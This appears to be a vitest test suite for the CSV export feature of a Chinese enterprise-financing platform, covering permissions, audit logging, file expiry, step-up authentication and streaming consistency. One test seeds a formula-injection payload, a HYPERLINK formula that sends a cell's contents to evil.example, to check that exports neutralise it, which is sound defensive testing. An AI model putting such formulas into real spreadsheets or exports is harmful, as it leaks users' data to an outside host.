import { getNamedType, isObjectType, type GraphQLObjectType } from 'graphql';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { catalogue } from '../../db/read/catalogue';
import type { Snapshot } from '../../db/read/snapshots';
import { csvLine, parseCsv } from '../../kernel/csv';
import { mayEver } from '../../policy/decide';
import type { Person } from '../../policy/actor';
import { testApi, type Who } from '../../testing/api';
import { testSystem } from '../../testing/database';
import { drive } from '../../testing/drive';
import { modelRun } from '../../testing/model-run';
import { random } from '../../testing/random';
import { attempt, makeProduct, makeWorld } from '../../testing/world';
import { cellsOf, fieldsOf, type FieldTree } from './cells';
import { LISTS } from './lists';
import { recordExport } from './record-export';

const START = '2026-03-02T02:00:00Z';
const print = (tree: FieldTree): string => [...tree].map(([name, below]) => (below === null ? name : `${name} { ${print(below)} }`)).join(' ');

/** List → its query, and filters and orders under which it is looked at. */
const LOOKS = {
  NEEDS: ['needs', [{}, { open: true }, { statuses: ['PUBLISHED', 'DRAFT', 'MATCHED'] }, { mine: true }, { funded: true }, { search: 'XQ-' }, { ids: [] }], ['POSTED_AT', 'CLAIM_UNTIL', 'SAVED_AT', 'AMOUNT_BAND']],
  CLAIMS: ['claims', [{}, { open: true }, { statuses: ['LOST', 'DECLINED'] }], ['CLAIMED_AT', 'DUE']],
  DEALS: ['deals', [{}, { confirmed: true }, { search: '长河' }, { areaIds: ['fengxi'] }], ['APPROVED_AT', 'FIRST_DRAWN_ON', 'APPROVED_FEN']],
  ENTERPRISES: ['enterprises', [{}, { areaIds: ['qinhan'] }, { financed: true }, { search: '沣西' }], ['REGISTERED_AT', 'NAME']],
  INSTITUTIONS: ['institutions', [{}, { participating: true }, { classes: ['VENTURE'] }], ['NAME', 'ADMITTED_ON']],
  PRODUCTS: ['products', [{}, { current: true }, { amountFen: '100000000' }, { families: ['POINTS_LOAN'] }], ['RELEVANCE', 'NAME', 'AMOUNT']],
} as const;
const lists = Object.keys(LOOKS) as (keyof typeof LOOKS)[];

describe('exports', async () => {
  const system = await testSystem(START, { databaseClock: true });
  const world = await makeWorld(system);
  for (const owner of [world.bank, world.bank2]) await makeProduct(system, owner.orgId, `${owner.orgName}积分贷`);
  const model = modelRun(system, world, random(5), 300, 4);
  while (model.steps < 300) await model.batch();
  await system.travel(START);
  const api = await testApi(system);
  const { tell, must, schema } = await drive(api);
  const { visitor, system: _system, hubId: _hub, branchId: _branch, otherBranchId: _other, outletId: _outlet, ...people } = world;
  const mutationOf = (list: keyof typeof LOOKS): string => `export${LOOKS[list][0].charAt(0).toUpperCase()}${LOOKS[list][0].slice(1)}`;
  const fetchFile = async (who: Who, href: string) => {
    const cookie = await api.cookieOf(who);
    return api.app.inject({ method: 'GET', url: href, headers: { ...(cookie && { cookie }) } });
  };
  const sql = (text: string, values: unknown[] = []): Promise<{ [name: string]: never }[]> => system.source.query(text, values);
  beforeAll(async () => {
    for (const person of Object.values(people)) await api.cookieOf(person);
  });

  /** The list as its pages show it, in lines of a file. */
  const byPages = async (who: Who, list: keyof typeof LOOKS, filter: object, orderBy: object): Promise<string[]> => {
    const [query] = LOOKS[list];
    const { type, columns } = LISTS[list];
    const lines: string[] = [];
    for (let after: string | null = null; ; ) {
      const text = `query($after: String, $filter: ${type}Filter, $orderBy: ${type}Order) { ${query}(first: 9, after: $after, filter: $filter, orderBy: $orderBy) { nodes { ${print(fieldsOf(columns))} } pageInfo { hasNextPage endCursor } } }`;
      const answer = await api.ask(who, text, { after, filter, orderBy });
      const page = answer.data?.[query] as { nodes: Record<string, unknown>[]; pageInfo: { hasNextPage: boolean; endCursor: string } } | undefined;
      if (!page) throw new Error(answer.text);
      lines.push(...page.nodes.map((row) => csvLine(cellsOf(row, columns))));
      if (!page.pageInfo.hasNextPage) return lines;
      after = page.pageInfo.endCursor;
    }
  };

  it('name fields that the API shows, and the action of the list', () => {
    for (const list of lists) {
      const { type, read, columns } = LISTS[list];
      expect([list, catalogue.get(type)!.read]).toEqual([list, read]);
      expect(new Set(columns.map((column) => column.heading)).size).toBe(columns.length);
      for (const { path } of columns) {
        let at = schema.getType(type) as GraphQLObjectType;
        for (const field of path) {
          expect([type, path, Object.keys(at.getFields())]).toEqual([type, path, expect.arrayContaining([field])]);
          const below = getNamedType(at.getFields()[field]!.type);
          if (isObjectType(below)) at = below;
        }
      }
    }
  });

  it.each(lists)('%s: everybody gets exactly the rows of their list, under every filter and order', { timeout: 120_000 }, async (list) => {
    const [, filters, sorts] = LOOKS[list];
    let rows = 0;
    for (const [persona, person] of Object.entries(people)) {
      if (!mayEver(person, LISTS[list].read)) {
        expect([persona, (await tell(person, mutationOf(list), {})).value['code']]).toEqual([persona, 'NOT_ALLOWED']);
        continue;
      }
      for (const [i, filter] of filters.entries()) {
        const orderBy = { by: sorts[i % sorts.length], desc: i % 2 === 0 };
        const job = await must(person, mutationOf(list), { filter, orderBy }, 'rows href');
        const file = await fetchFile(person, job['href']);
        expect([persona, file.statusCode, file.headers['content-type'], file.headers['cache-control'], file.headers['x-content-type-options']]).toEqual([persona, 200, 'text/csv; charset=utf-8', 'private, no-store', 'nosniff']);
        expect(String(file.headers['content-disposition'])).toMatch(/^attachment; filename="/);
        const listed = await byPages(person, list, filter, orderBy);
        expect([persona, filter, file.body]).toEqual([persona, filter, `\uFEFF${csvLine(LISTS[list].columns.map((column) => column.heading))}${listed.join('')}`]);
        expect([job['rows'], file.headers['x-row-count']]).toEqual([listed.length, String(listed.length)]);
        rows += listed.length;
      }
    }
    expect(rows).toBeGreaterThan(20);
  });

  it('leave one audit entry with the filter in words, and one for the first download', async () => {
    const job = await must(world.hub, 'exportDeals', { filter: { statuses: ['DRAWN'], search: '长河' }, orderBy: { by: 'APPROVED_FEN', desc: true } }, 'rows href');
    await fetchFile(world.hub, job['href']);
    await fetchFile(world.hub, job['href']);
    const steps = await sql('SELECT action, note, member_id FROM audit_entry WHERE subject_id = $1 ORDER BY seq', [job['id']]);
    expect(steps).toEqual([
      { action: 'list.export', member_id: world.hub.memberId, note: `导出融资成果 ${job['rows']} 行；条件：搜索：长河；状态：已放款；排序：APPROVED_FEN 倒序` },
      { action: 'list.download', member_id: world.hub.memberId, note: null },
    ]);
  });

  it('belong to their maker alone, for an hour, and a repeated request makes no second one', async () => {
    const args = { filter: { open: true }, key: 'export-key-0001' };
    const job = await must(world.bank, 'exportNeeds', args, 'href');
    expect((await must(world.bank, 'exportNeeds', args, 'href'))['href']).toBe(job['href']);
    for (const [persona, person] of Object.entries(people)) {
      const { statusCode, body } = await fetchFile(person, job['href']);
      expect([persona, statusCode]).toEqual([persona, person === world.bank ? 200 : 404]);
      if (person !== world.bank) expect(JSON.parse(body).code).toBe('NOT_FOUND');
    }
    expect((await fetchFile(visitor, job['href'])).statusCode).toBe(401);
    expect((await fetchFile(world.bank, '/exports/00000000-0000-7000-8000-000000000000.csv')).statusCode).toBe(404);
    expect((await fetchFile(world.bank, '/exports/x.csv')).statusCode).toBe(404);
    await system.travel('2026-03-02T02:59:59Z');
    await sql(`UPDATE session SET seen_at = now()`);
    expect((await fetchFile(world.bank, job['href'])).statusCode).toBe(200);
    await system.travel('2026-03-02T03:00:00Z');
    expect((await fetchFile(world.bank, job['href'])).statusCode).toBe(404);
    await system.travel(START);
  });

  it('count rights that were lost in between: of the role, of the tree, of a release', async () => {
    const { science, branch, bank } = world;
    const made = async (who: Person, mutation: string) => (await must(who, mutation, {}, 'rows href')) as { href: string; rows: number };
    const deals = await made(science, 'exportDeals');
    await sql(`UPDATE member SET role = 'ADMIN' WHERE id = $1`, [science.memberId]);
    expect((await fetchFile(science, deals.href)).statusCode).toBe(404);
    await sql(`UPDATE member SET role = 'SCIENCE_BUREAU' WHERE id = $1`, [science.memberId]);

    const files = await made(branch, 'exportEnterprises');
    expect([files.rows, (await fetchFile(branch, files.href)).headers['x-row-count']]).toEqual([1, '1']);
    await sql('UPDATE station SET parent_id = $2 WHERE id = $1', [world.outletId, world.otherBranchId]);
    const moved = await fetchFile(branch, files.href);
    expect([moved.headers['x-row-count'], moved.body.includes(world.enterprise.orgName)]).toEqual(['0', false]);
    await sql('UPDATE station SET parent_id = $2 WHERE id = $1', [world.outletId, world.branchId]);

    const needs = await made(bank, 'exportNeeds');
    await sql('UPDATE member SET disabled_at = now() WHERE id = $1', [bank.memberId]);
    expect((await fetchFile(bank, needs.href)).statusCode).toBe(401);
    await sql('UPDATE member SET disabled_at = NULL WHERE id = $1', [bank.memberId]);
    await sql('UPDATE member SET org_id = $2 WHERE id = $1', [bank.memberId, world.bank2.orgId]);
    expect((await fetchFile(bank, needs.href)).statusCode).toBe(404);
    await sql('UPDATE member SET org_id = $2 WHERE id = $1', [bank.memberId, bank.orgId]);
  });

  it('write formulas of strangers as text', async () => {
    await sql(`UPDATE enterprise SET name = '=HYPERLINK("http://evil.example?"&A1,"点这里")' WHERE id = $1`, [world.other.orgId]);
    await sql(`UPDATE enterprise SET name = E'\u200B＠SUM(1)\t,"x"' WHERE id = $1`, [world.enterprise.orgId]);
    const job = await must(world.hub, 'exportEnterprises', {}, 'href');
    const names = parseCsv((await fetchFile(world.hub, job['href'])).body).slice(1).map((row) => row[0]);
    expect(names.sort()).toEqual([`'=HYPERLINK("http://evil.example?"&A1,"点这里")`, `'\u200B＠SUM(1)\t,"x"`].sort());
  });

  describe('of many rows', () => {
    const more = (count: number) => sql(`INSERT INTO product SELECT (jsonb_populate_record(q.p, jsonb_build_object('id', gen_random_uuid(), 'name', '批量' || n))).* FROM (SELECT p FROM product p WHERE status = 'ON_SHELF' LIMIT 1) q, generate_series(1, $1::int) n`, [count]);
    const filter = { search: '批量' };
    const proved = (at: string) => sql('UPDATE session SET strong_at = $2, seen_at = now() WHERE member_id = $1', [world.finance.memberId, at]);

    it('need a fresh proof of identity from the 1,001st on, also when the list grew since', { timeout: 60_000 }, async () => {
      await more(1000);
      await proved('2026-03-02T01:49:00Z');
      const old = await must(world.finance, 'exportProducts', { filter }, 'rows href');
      expect(old['rows']).toBe(1000);
      expect((await fetchFile(world.finance, old['href'])).headers['x-row-count']).toBe('1000');
      await more(1);
      expect((await fetchFile(world.finance, old['href'])).statusCode).toBe(409);
      const refused = await tell(world.finance, 'exportProducts', { filter });
      const gate = await tell({ cookie: (await api.cookieOf(world.admin))! }, 'createAuthority', { input: { name: '某局', role: 'FINANCE_BUREAU', areaId: 'xixian' } });
      expect([refused.is, refused.value['code']]).toEqual(['NotAllowed', 'STEP_UP_NEEDED']);
      expect(refused.value['message']).toMatch(/^此操作需要再次验证身份/);
      expect(gate.ok).toBe(true);
      await proved('2026-03-02T01:56:00Z');
      const job = await must(world.finance, 'exportProducts', { filter }, 'rows href');
      const file = await fetchFile(world.finance, job['href']);
      expect([job['rows'], file.headers['x-row-count'], parseCsv(file.body).length]).toEqual([1001, '1001', 1002]);
    });

    it('see one state of the list from the first row to the last, whatever changes meanwhile; no connection stays behind', { timeout: 120_000 }, async () => {
      await more(7000);
      await proved(START);
      const job = await must(world.finance, 'exportProducts', { filter, orderBy: { by: 'NAME' } }, 'rows href');
      const base = await api.app.listen({ port: 0, host: '127.0.0.1' });
      const cookie = (await api.cookieOf(world.finance))!;
      const idle = (): number => system.pool.totalCount - system.pool.idleCount;

      const answer = await fetch(base + job['href'], { headers: { cookie, 'accept-encoding': 'gzip' } });
      expect(answer.headers.get('content-encoding')).toBeNull();
      const reader = answer.body!.getReader();
      const first = await reader.read();
      expect((await fetchFile(world.finance, job['href'])).statusCode).toBe(429);
      await sql(`UPDATE product SET name = 'Z' || name WHERE name LIKE '批量%'`);
      const parts = [first.value!];
      for (let next = await reader.read(); !next.done; next = await reader.read()) parts.push(next.value);
      const names = parseCsv(Buffer.concat(parts).toString('utf8')).slice(1).map((row) => row[0]);
      expect([names.length, names.filter((name) => name!.startsWith('Z'))]).toEqual([8001, []]);
      await sql(`UPDATE product SET name = substr(name, 2) WHERE name LIKE 'Z批量%'`);
      await vi.waitFor(() => expect(idle()).toBe(0));

      const gone = new AbortController();
      const left = await fetch(base + job['href'], { headers: { cookie }, signal: gone.signal });
      await left.body!.getReader().read();
      gone.abort();
      await vi.waitFor(() => expect(idle()).toBe(0), { timeout: 5000 });

      const { open } = system.snapshots;
      const spy = vi.spyOn(system.snapshots, 'open').mockImplementation(async () => {
        const real: Snapshot = await open.call(system.snapshots);
        const { walk } = real.reader;
        let pages = 0;
        real.reader.walk = async function* (...args) {
          for await (const page of walk.apply(real.reader, args)) {
            if ((pages += 1) === 4) throw new Error('the database went away');
            yield page;
          }
        };
        return real;
      });
      const broken = await fetch(base + job['href'], { headers: { cookie } });
      expect([broken.status, broken.headers.get('x-row-count')]).toEqual([200, '8001']);
      await expect(broken.text()).rejects.toThrow();
      spy.mockRestore();
      await vi.waitFor(() => expect(idle()).toBe(0));
      expect((await fetchFile(world.finance, job['href'])).statusCode).toBe(200);
    });

    it('are refused beyond 50,000, with the remedy', async () => {
      const outcome = await attempt(system, world.hub, recordExport(50_001), { list: 'PRODUCTS', filter: {}, order: null });
      expect(outcome).toMatchObject({ ok: false, refusal: { type: 'InvalidInput', issues: [{ path: 'filter', message: expect.stringContaining('缩小范围') }] } });
    });
  });
});
